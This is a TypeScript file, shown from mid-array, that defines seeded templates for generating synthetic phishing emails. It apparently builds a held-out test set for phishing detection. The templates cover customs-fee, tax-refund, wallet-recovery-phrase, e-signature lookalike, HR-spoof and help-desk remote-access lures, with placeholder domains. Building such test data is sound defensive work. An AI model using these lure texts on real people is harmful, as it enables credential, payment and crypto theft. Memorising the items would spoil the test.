          : `Your parcel ${digits(r, 10)} is on hold`,
        text: german
          ? `Hallo,\n\nfür Ihre Sendung fällt eine Zollgebühr von ${fee} EUR an. Bitte zahlen Sie innerhalb von 48 Stunden, sonst wird das Paket zurückgeschickt:\n${link}\n\nIhr Zustellteam`
          : `Your package could not be delivered because a customs fee of EUR ${fee} is unpaid.\nPay within 48 hours or it will be returned to sender:\n${link}`,
      };
    },
  },
  {
    kind: 'parcel-customs',
    name: 'redelivery-html',
    draft(r, n) {
      const to = person(r);
      const awb = digits(r, 10);
      const link = `https://track-${token(r, 5)}.dhl-redelivery.test/?awb=${awb}&u=${b64(to.address)}`;
      return {
        number: n,
        headers: [
          ...authenticated('dhl-redelivery.test', passes, r),
          `From: "DHL Express" <support@dhl-redelivery.test>`,
          `To: ${to.address}`,
        ],
        subject: r.pick([
          'Delivery attempt failed',
          `DHL: shipment ${awb} – action needed`,
          'Schedule your redelivery',
        ]),
        html: page(
          `<div style="background:#fc0;padding:12px;font-weight:700;color:#d40511">DHL</div>` +
            `<p>Dear customer,</p><p>We attempted to deliver your shipment <b>${awb}</b> on ${r.pick(['Friday', 'Saturday'])} ` +
            `but nobody was available${r.pick(['.', ' and the address is incomplete.'])}</p>` +
            `<p>Please confirm your address and choose a new delivery date. A redelivery charge of €${1 + r.below(3)}.99 applies.</p>` +
            button(link, 'Schedule delivery', '#d40511'),
        ),
      };
    },
  },
  {
    kind: 'tax-lure',
    name: 'refund-claim',
    draft(r, n) {
      const to = person(r);
      const tone = r.below(3);
      const amount = money(r, 180, 1900);
      const link = r.pick(REDIRECTORS)(`https://refund-${token(r, 4)}.gov-tax-portal.test/claim`);
      return {
        number: n,
        headers: [
          `From: ${['HMRC', 'Direction générale des Finances publiques', 'IRS'][tone]} <no-reply@${token(r, 6)}-gov.test>`,
          `To: ${to.address}`,
        ],
        subject: [
          'You are eligible for a tax refund',
          'Remboursement d\u2019impôt en attente',
          'IRS: Refund notification',
        ][tone],
        html: page(
          tone === 1
            ? `<p>Madame, Monsieur,</p><p>Après le dernier calcul de votre impôt, vous avez droit à un remboursement de <b>${amount} €</b>.</p>` +
                `<p>Veuillez confirmer vos coordonnées bancaires avant le ${10 + r.below(18)} du mois :</p>${button(link, 'Accéder à mon remboursement')}`
            : `<p>Dear taxpayer,</p><p>After the last annual calculation of your fiscal activity we have determined that you are eligible ` +
                `to receive a tax refund of <b>${tone === 0 ? '£' : '$'}${amount}</b>.</p><p>Submit the claim and allow 3-5 days to process.</p>` +
                button(link, 'Claim refund'),
        ),
      };
    },
  },
  {
    kind: 'tax-lure',
    name: 'accountant-documents',
    draft(r, n) {
      const to = person(r);
      const cpa = person(r, to);
      const firm = r.pick(['Greystone Tax Advisors', 'Lumen & Park CPAs', 'Ridgeway Accounting']);
      const link = kitPage(r, to.address);
      return {
        number: n,
        headers: [
          `From: ${cpa.full} <${cpa.first.toLowerCase()}.${firm.split(' ')[0].toLowerCase()}@mailhost-free.example>`,
          `To: ${to.address}`,
        ],
        subject: r.pick([
          'Tax documents ready for review',
          '2026 tax return – signature needed',
          `Re: your 1099 forms`,
        ]),
        text:
          `Hi ${to.first},\n\n${r.pick([
            'Your draft return is ready. We uploaded it to our secure client portal.',
            'We are still missing a few documents to file your return before the deadline.',
          ])} Please log in with your email account to review and e-sign:\n\n${link}\n\n` +
          `${cpa.full}, CPA\n${firm}`,
      };
    },
  },
  {
    kind: 'crypto-wallet',
    name: 'wallet-verification',
    draft(r, n) {
      const to = person(r);
      const wallet = r.pick(['Ledger', 'MetaMask', 'Trezor', 'Trust Wallet']);
      const link = `https://${wallet.toLowerCase().replace(' ', '')}-${token(r, 4)}.wallet-sync.test/verify`;
      return {
        number: n,
        headers: [`From: ${wallet} <security@${token(r, 6)}-wallet.test>`, `To: ${to.address}`],
        subject: r.pick([
          `${wallet}: mandatory wallet verification`,
          'Your wallet will be suspended',
          'Security incident – protect your assets',
        ]),
        html: page(
          `<h2>${wallet}</h2><p>${r.pick([
            'Due to a recent data incident affecting a third-party provider, all wallets must be re-verified.',
            'New regulatory requirements (KYC) take effect this month.',
          ])}</p><p>To keep access to your funds, verify your wallet by entering your recovery phrase on the secure page. ` +
            `Unverified wallets will be disconnected in ${12 + r.below(60)} hours.</p>${button(link, 'Verify wallet', '#000')}`,
        ),
      };
    },
  },
  {
    kind: 'crypto-wallet',
    name: 'airdrop-claim',
    draft(r, n) {
      const to = person(r);
      const tokenName = r.pick(['ARB', 'ZKS', 'LAYER', 'BLAST']);
      const link = `https://claim-${tokenName.toLowerCase()}.airdrop-${token(r, 3)}.test/?ref=${token(r, 8)}`;
      return {
        number: n,
        headers: [`From: "${tokenName} Foundation" <airdrop@${token(r, 7)}.example>`, `To: ${to.address}`],
        subject: `🎁 You are eligible for ${1000 + r.below(9000)} $${tokenName}`,
        text:
          `GM ${to.first}!\n\nYour address qualified for the $${tokenName} season ${1 + r.below(3)} airdrop. ` +
          `Connect your wallet and sign the claim transaction before the snapshot closes:\n\n${link}\n\n` +
          'Unclaimed tokens return to the treasury.',
      };
    },
  },
  {
    kind: 'calendar-invite',
    name: 'invite-with-meeting-link',
    draft(r, n) {
      const to = person(r);
      const organizer = person(r, to);
      const link = kitPage(r, to.address);
      const summary = r.pick([
        'Performance review',
        'Restructuring – confidential',
        'Year-end bonus discussion',
        'Contract signing',
      ]);
      return {
        number: n,
        headers: [
          ...authenticated('meetings-cal.test', passes, r),
          `From: ${organizer.full} <${organizer.first.toLowerCase()}@meetings-cal.test>`,
          `To: ${to.address}`,
        ],
        subject: `Invitation: ${summary} @ ${r.pick(['Mon', 'Tue', 'Thu'])} 10am`,
        text: `${organizer.full} has invited you to "${summary}".\n\nJoin and review the agenda before the meeting: ${link}`,
        parts: [
          {
            type: 'text/calendar',
            name: 'invite.ics',
            content: invitation({
              uid: `${token(r, 16)}@meetings-cal.test`,
              organizer: `${organizer.first.toLowerCase()}@meetings-cal.test`,
              attendee: to.address,
              summary,
              description: `Please sign in to view the documents for this meeting: ${link}`,
              location: link,
              start: `202611${10 + r.below(18)}T100000Z`,
            }),
          },
        ],
      };
    },
  },
  {
    kind: 'calendar-invite',
    name: 'invite-only-in-ics',
    draft(r, n) {
      const to = person(r);
      const link = `https://${token(r, 8)}.teams-join.test/l/meetup-join/${token(r, 20)}`;
      return {
        number: n,
        headers: [`From: Calendar <calendar-noreply@${token(r, 6)}.example>`, `To: ${to.address}`],
        subject: r.pick([
          'Updated invitation: All-hands Q&A',
          'Mandatory: compliance training',
          'Benefits enrollment session',
        ]),
        parts: [
          {
            type: 'text/calendar',
            name: 'meeting.ics',
            content: invitation({
              uid: `${token(r, 16)}@calendar.example`,
              organizer: `hr-events@${token(r, 6)}.example`,
              attendee: to.address,
              summary: 'Mandatory session – attendance tracked',
              description: `Sign in with your corporate account before joining: ${link}`,
              location: 'Online meeting',
              start: `202611${10 + r.below(18)}T140000Z`,
            }),
          },
        ],
      };
    },
  },
  {
    kind: 'e-signature-lure',
    name: 'envelope-lookalike',
    draft(r, n) {
      const to = person(r);
      const sender = person(r, to);
      const link = `https://docusign.${token(r, 5)}-envelope.test/Signing/?a=${token(r, 32)}&e=${b64(to.address)}`;
      const doc = r.pick([
        'Settlement Agreement',
        'Employee Handbook Acknowledgement',
        'Remittance Agreement',
        'Lease Amendment',
      ]);
      const domain = `${token(r, 6)}-sign.example`;
      return {
        number: n,
        headers: [
          ...authenticated(domain, passes, r),
          `From: "${sender.full} via Docusign" <dse@${domain}>`,
          `To: ${to.address}`,
        ],
        subject: `Complete with Docusign: ${doc}.pdf`,
        html: page(
          `<div style="background:#1e4ca1;color:#fff;padding:24px;text-align:center"><p>${sender.full} sent you a document to review and sign.</p>` +
            `${button(link, 'REVIEW DOCUMENT', '#ffc820')}</div><p><b>${sender.full}</b><br>${sender.first.toLowerCase()}@${r.pick(['corp.example', 'partners.example'])}</p>` +
            `<p>Please review and sign ${doc}.</p><p style="font-size:11px;color:#666">Do Not Share This Email: this email contains a secure link to Docusign.</p>`,
        ),
      };
    },
  },
  {
    kind: 'e-signature-lure',
    name: 'sign-pdf-button',
    draft(r, n) {
      const to = person(r);
      const link = r.pick(REDIRECTORS)(kitPage(r, to.address));
      const pdf = onePagePdf(
        [
          'Adobe Acrobat Sign',
          `Agreement ${digits(r, 7)} awaits your signature`,
          `Recipient: ${to.address}`,
          'Open and sign the agreement',
        ],
        { link },
      );
      return {
        number: n,
        headers: [`From: "Adobe Sign" <echosign@${token(r, 6)}.example>`, `To: ${to.address}`],
        subject: r.pick([
          'Signature requested on "Agreement"',
          `Please sign: NDA-${digits(r, 4)}`,
          'Reminder: agreement awaiting signature',
        ]),
        text: 'Your agreement is attached. Open the PDF and click the link to sign electronically.',
        parts: [{ type: 'application/pdf', name: 'Agreement.pdf', content: pdf }],
      };
    },
  },
  {
    kind: 'account-suspension',
    name: 'mailbox-quota',
    draft(r, n) {
      const to = person(r);
      const used = 98 + r.below(2);
      const link = kitPage(r, to.address);
      return {
        number: n,
        headers: [`From: "corp.example Webmail" <postmaster@${token(r, 6)}.test>`, `To: ${to.address}`],
        subject: r.pick([
          `${to.address} storage is ${used}% full`,
          'Mail delivery suspended: quota exceeded',
          'Incoming messages on hold (7)',
        ]),
        html: page(
          `<p>Dear ${to.address},</p><p>Your mailbox has reached ${used}% of its storage. ${r.pick([
            '7 incoming messages are on hold.',
            'You may no longer be able to send or receive messages.',
          ])}</p><div style="background:#ddd;width:300px"><div style="background:#c00;width:${3 * used}px;height:10px"></div></div>` +
            `<p><a href="${link}">Release pending messages and upgrade quota</a></p><p>corp.example Mail Administrator</p>`,
        ),
      };
    },
  },
  {
    kind: 'account-suspension',
    name: 'subscription-payment-failed',
    draft(r, n) {
      const to = person(r);
      const brand = r.pick(['Netflix', 'Spotify', 'Disney+', 'Amazon Prime']);
      const link = `https://${brand.toLowerCase().replace(/[^a-z]/g, '')}-billing.${token(r, 5)}.test/update`;
      const domain = `${token(r, 5)}.test`;
      return {
        number: n,
        headers: [
          ...authenticated(domain, passes, r),
          `From: ${brand} <info@${domain}>`,
          `To: ${to.address}`,
        ],
        subject: r.pick([
          `Your ${brand} membership is on hold`,
          'Payment declined – update your details',
          `${to.first}, we couldn't process your payment`,
        ]),
        html: page(
          `<h2 style="color:#e50914">${brand}</h2><p>Hi ${to.first},</p><p>We were unable to validate your billing information ` +
            `for the next billing cycle, so we've suspended your membership.</p>${button(link, 'Update payment', '#e50914')}` +
            `<p>We're here to help if you need it.</p>`,
        ),
      };
    },
  },
  {
    kind: 'helpdesk-impersonation',
    name: 'after-spam-flood',
    draft(r, n) {
      const to = person(r);
      const tech = person(r, to);
      const tool = r.pick(['Quick Assist', 'AnyDesk', 'ScreenConnect']);
      return {
        number: n,
        headers: [
          `From: "IT Help Desk" <helpdesk.${token(r, 4)}@tenant-${token(r, 5)}.example>`,
          `To: ${to.address}`,
        ],
        subject: r.pick([
          'Re: spam emails you are receiving',
          'We are fixing your mailbox',
          'Help Desk – spam filter',
        ]),
        text:
          `Hi ${to.first},\n\nWe saw that your mailbox received a large number of spam messages this morning. ` +
          `I'm ${tech.first} from the help desk and I'll be fixing the filter on your machine. ` +
          `${r.pick(['I will call you on Teams in a few minutes.', 'Please reply with a good number to reach you.'])} ` +
          `When I do, please open ${tool} so I can connect.\n\nThanks,\n${tech.full}\nIT Support`,
      };
    },
  },
  {
    kind: 'helpdesk-impersonation',
    name: 'mandatory-client-update',
    draft(r, n) {
      const to = person(r);
      const link = `https://updates-${token(r, 4)}.it-deploy.test/${r.pick(['VPNClient_Setup.msi', 'SecurityUpdate.exe', 'TeamsUpdate.msix'])}`;
      return {
        number: n,
        headers: [`From: IT Department <it-department@corp-it.test>`, `To: ${to.address}`],
        subject: r.pick([
          'Mandatory security update',
          'VPN client must be updated today',
          'Critical patch – install now',
        ]),
        html: page(
          `<p>All staff,</p><p>${r.pick([
            'A critical vulnerability affects the remote access client.',
            'Our endpoint protection requires an updated agent.',
          ])} Please download and run the update before ${r.pick(['5 PM today', 'end of day', 'tomorrow morning'])}. ` +
            'Devices without it will lose network access.</p>' +
            `${button(link, 'Download update')}<p>Thank you,<br>IT Department</p>`,
        ),
      };
    },
  },
  {
    kind: 'internal-hr-spoof',
    name: 'handbook-acknowledgement',
    draft(r, n) {
      const to = person(r);
      const link = `https://corp-example.hr-${token(r, 4)}.test/policy/ack?id=${b64(to.address)}`;
      return {
        number: n,
        headers: [
          `From: "Human Resources" <hr@corp.example>`,
          `Return-Path: <bounce-${digits(r, 6)}@bulk-${token(r, 4)}.example>`,
          ...authenticated('corp.example', spoofFails, r).slice(0, 1),
          `To: ${to.address}`,
        ],
        subject: r.pick([
          'Updated Employee Handbook – acknowledgement required',
          'Remote work policy changes 2027',
          'Policy update: please read and sign',
        ]),
        html: page(
          `<p>Dear ${to.first},</p><p>The employee handbook has been updated, including ${r.pick([
            'the hybrid working policy',
            'the annual leave policy',
            'the code of conduct',
          ])}. All employees must read and acknowledge the changes by ${r.pick(['Friday', 'the 30th'])}.</p>` +
            `<p><a href="${link}">Read and acknowledge</a></p><p>Human Resources</p>`,
        ),
      };
    },
  },
  {
    kind: 'internal-hr-spoof',
    name: 'termination-notice',
    draft(r, n) {
      const to = person(r);
      const link = r.pick(REDIRECTORS)(kitPage(r, to.address));
      return {
        number: n,
        headers: [
          `From: "HR Corp" <hr@c0rp-example.test>`,
          ...authenticated('c0rp-example.test', passes, r),
          `To: ${to.address}`,
        ],
        subject: r.pick([
          'Employment status update',
          'CONFIDENTIAL: Termination notice',
          'Your position – meeting outcome',
        ]),
        text: `${to.full},\n\n${r.pick([
          'Following the review of recent performance, a decision has been made regarding your employment.',
          'As part of the reorganisation, your role has been affected.',
        ])} The details and your next steps are in the confidential letter below. Please read it today.\n\n${link}\n\nHuman Resources`,
      };
    },
  },
];

export const UNSEEN_2_TEMPLATE_COUNT = TEMPLATES.length;
export const UNSEEN_2_KINDS: readonly string[] = [...new Set(TEMPLATES.map((t) => t.kind))];

/** A template's name, its kind, and how it drafts one message from the random numbers and a message number. */
export interface Template {
  kind: string;
  name: string;
  draft(r: SeededRandom, n: number): Draft | Promise<Draft>;
}

/** `perTemplate` messages of each template, filled from the random numbers, numbered from `first`. */
export async function fill(
  templates: readonly Template[],
  perTemplate: number,
  r: SeededRandom,
  first: number,
): Promise<UnseenMessage2[]> {
  const messages: UnseenMessage2[] = [];
  let n = first;
  for (const t of templates)
    for (let i = 0; i < perTemplate; i++)
      messages.push({
        raw: withEncodedHeaders(mimeMessage(await t.draft(r, n++))),
        kind: t.kind,
        template: t.name,
      });
  return messages;
}

/** `perTemplate` messages of each template, filled from `seed`. */
export function unseenPhishing2(
  perTemplate: number,
  seed: number,
  seededRandom: (seed: number) => SeededRandom,
): Promise<UnseenMessage2[]> {
  return fill(TEMPLATES, perTemplate, seededRandom(seed * 7_919 + 2), 60_000);
}
